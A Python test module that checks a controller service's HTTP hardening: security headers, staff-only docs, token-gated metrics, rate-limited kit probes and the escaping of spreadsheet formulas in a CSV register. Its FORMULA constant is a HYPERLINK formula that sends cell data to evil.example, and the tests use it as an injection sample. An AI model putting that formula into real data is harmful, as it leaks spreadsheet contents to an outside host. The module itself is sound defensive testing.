"""HTTP hardening (issue 12, item 11) against a real controller: security headers, docs served
by the controller to staff only, /metrics behind a token, the throughput probe for enrolled kits
only and rate-limited, and a register that a spreadsheet opens without running formulas."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import ssl
import urllib.error
import urllib.request
from collections.abc import Iterator
from email.message import Message
from pathlib import Path

import pytest
from starlette.responses import JSONResponse as StarletteJSON

from controller.api import errors, headers
from controller.api.deps import SESSION_COOKIE
from controller.api.routes import docs, health
from controller.platform import csvfile
from tests.controller.records import CONTRACT, GUARDIAN, PUPIL, add_kits, step
from tests.support import Broker, Controller, provision_kit, ssl_context, start_broker

METRICS_TOKEN = "scrape-me-0123456789abcdef"
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Controller]:
    """One controller (with a metrics token) for the whole module."""
    tmp = tmp_path_factory.mktemp("hardening")
    broker: Broker = start_broker(tmp)
    controller = Controller(tmp, broker, KITKEEPER_METRICS_TOKEN=METRICS_TOKEN)
    try:
        yield controller.start()
    finally:
        controller.stop()
        broker.stop()


def fetch(
    controller: Controller,
    path: str,
    *,
    token: str | None = None,
    cookie: str | None = None,
    context: ssl.SSLContext | None = None,
) -> tuple[int, Message, bytes]:
    """GET a path; (status, headers, body), whatever the status."""
    sent = {}
    if token:
        sent["Authorization"] = f"Bearer {token}"
    if cookie:
        sent["Cookie"] = f"{SESSION_COOKIE}={cookie}"
    request = urllib.request.Request(controller.url + path, headers=sent)
    try:
        with urllib.request.urlopen(
            request, context=context or controller.context, timeout=30
        ) as r:
            return r.status, r.headers, r.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.headers, exc.read()


@pytest.mark.processes
def test_every_answer_carries_the_security_headers(running: Controller) -> None:
    admin = running.tokens["admin"]
    answers = {
        "/healthz": fetch(running, "/healthz"),
        "/api/v1/kits": fetch(running, "/api/v1/kits", token=admin),
        "401": fetch(running, "/api/v1/kits"),
        "404": fetch(running, "/api/v1/contracts/none", token=admin),
        "/docs": fetch(running, "/docs", token=admin),
    }
    for what, (_, got, _) in answers.items():
        assert got["Strict-Transport-Security"] == headers.HSTS, what
        assert got["X-Content-Type-Options"] == "nosniff", what
        assert got["X-Frame-Options"] == "DENY", what
        assert got["Referrer-Policy"] == "no-referrer", what
        assert got["Cache-Control"] == "no-store", what
        assert "frame-ancestors 'none'" in got["Content-Security-Policy"], what
    assert answers["/api/v1/kits"][1]["Content-Security-Policy"] == headers.API_CSP
    assert answers["/docs"][1]["Content-Security-Policy"] == headers.DOCS_CSP


@pytest.mark.processes
def test_the_docs_are_the_controllers_own_and_for_staff_only(running: Controller) -> None:
    for path in ("/docs", "/openapi.json", "/docs/start.js", "/docs/assets/swagger-ui-bundle.js"):
        assert fetch(running, path)[0] == 401, f"{path} without signing in"
    status, _, page = fetch(running, "/docs", cookie=running.tokens["teacher"])
    assert status == 200, "any signed-in member of staff, with the session cookie"
    html = page.decode()
    links = re.findall(r'(?:src|href)="([^"]+)"', html)
    assert links, html
    assert "//" not in html.replace("<!doctype html>", ""), "no URL of another host"
    for link in links:
        assert link.startswith("/docs/"), link
        status, got, body = fetch(running, link, cookie=running.tokens["teacher"])
        assert status == 200, link
        name = link.rsplit("/", 1)[1]
        if name in docs.ASSETS:
            assert hashlib.sha256(body).hexdigest() == docs.ASSETS[name][0], name
            assert got["Cache-Control"] == docs.ASSET_CACHE
        else:
            assert b"http" not in body, f"{link} loads nothing from elsewhere"
    status, _, schema = fetch(running, "/openapi.json", token=running.tokens["teacher"])
    assert (status, schema[:1]) == (200, b"{")
    status, _, form = fetch(running, "/docs/sign-in")
    assert (status, b"/docs/sign-in.js" in form) == (200, True), "the one open page"


@pytest.mark.processes
def test_metrics_need_the_token_or_staff(running: Controller) -> None:
    assert fetch(running, "/metrics")[0] == 401
    assert fetch(running, "/metrics", token="wrong-" + METRICS_TOKEN)[0] == 401
    assert fetch(running, "/metrics", token=running.tokens["teacher"])[0] == 403
    status, _, body = fetch(running, "/metrics", token=METRICS_TOKEN)
    assert status == 200
    assert b"kitkeeper_" in body


@pytest.mark.processes
def test_only_an_enrolled_kit_may_probe_and_only_so_often(
    running: Controller, tmp_path: Path
) -> None:
    probe = "/api/v1/probe?size=1000"
    assert fetch(running, probe, token=running.tokens["admin"])[0] == 403, "no kit certificate"
    provision_kit(running.pki, tmp_path / "a", "kit-probe-a")
    kit_a = ssl_context(running.pki, tmp_path / "a")
    for _ in range(health.PROBES_PER_WINDOW):
        status, _, body = fetch(running, probe, context=kit_a)
        assert (status, len(body)) == (200, 1000)
    status, got, _ = fetch(running, probe, context=kit_a)
    assert status == 429, "over the kit's quota"
    assert 0 < int(got["Retry-After"]) <= health.PROBE_WINDOW_S + 1
    add_kits(running, "kit-probe-b")  # recorded, as enrolment would: a lost kit is a known one
    provision_kit(running.pki, tmp_path / "b", "kit-probe-b")
    kit_b = ssl_context(running.pki, tmp_path / "b")
    assert fetch(running, probe, context=kit_b)[0] == 200, "another kit has its own quota"
    broker_dir = running.args[running.args.index("--broker-dir") + 1]
    marked = running.cli(
        "kit", "mark", "--kit-id", "kit-probe-b", "lost", "--broker-dir", broker_dir
    )
    assert marked.returncode == 0, marked.stderr
    assert fetch(running, probe, context=kit_b)[0] == 403, "a lost kit probes no more"


@pytest.mark.processes
def test_the_register_opens_in_a_spreadsheet_without_running_formulas(
    running: Controller,
) -> None:
    pupil = PUPIL | {"ref": "p-csv", "iin": "080215500016"}
    guardian = GUARDIAN | {"ref": "g-csv", "pupil_ref": "p-csv", "name": FORMULA}
    assert running.post("/api/v1/pupils", pupil, "admin")[0] == 201
    assert running.post("/api/v1/guardians", guardian, "admin")[0] == 201
    add_kits(running, "kit-csv")  # a component never creates its kit (issue 13)
    part = {"serial": "SN-CSV", "kind": "laptop", "model": "X", "kit_id": "kit-csv"}
    assert running.post("/api/v1/components", part, "admin")[0] == 201
    contract = CONTRACT | {
        "school": FORMULA,
        "city": "@SUM(1+1)",
        "guardian_ref": "g-csv",
        "pupil_ref": "p-csv",
        "kit_id": "kit-csv",
    }
    status, body = running.post("/api/v1/contracts", contract, "admin")
    assert status == 201, body
    assert step(running, "sign", {"guardian": FORMULA, "school": "-1+1"})[0] == 200
    status, got, raw = fetch(running, "/api/v1/register.csv", token=running.tokens["admin"])
    assert status == 200
    assert got["Cache-Control"] == "no-store"
    assert raw.startswith(b"\xef\xbb\xbf"), "a byte-order mark: Excel then reads UTF-8"
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    (row,) = [r for r in rows if r["number"] == CONTRACT["number"]]
    assert row["school"] == "'" + FORMULA
    assert row["city"] == "'@SUM(1+1)"
    cells = [cell for r in rows for cell in r.values()]
    assert not [c for c in cells if c.startswith(csvfile.FORMULA_STARTS)], cells


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+7 701", "'+7 701"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("№42 мектеп", "№42 мектеп"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_formula_like_cells_are_quoted(cell: str | None, written: str) -> None:
    assert csvfile.spreadsheet_safe(cell) == written


def test_an_answer_that_echoes_a_lone_surrogate_is_still_sent() -> None:
    """A character UTF-8 cannot encode (a lone surrogate) in an answer is written as its JSON
    escape: Starlette's own JSONResponse raises UnicodeEncodeError there, a 500."""
    content = {"detail": [{"loc": ["body", "name\udb03"], "msg": "Әлия"}]}
    with pytest.raises(UnicodeEncodeError):
        StarletteJSON(content)
    sent = errors.JSONResponse(content).body
    assert json.loads(sent) == content
    assert "Әлия".encode() in sent, "other text stays UTF-8"
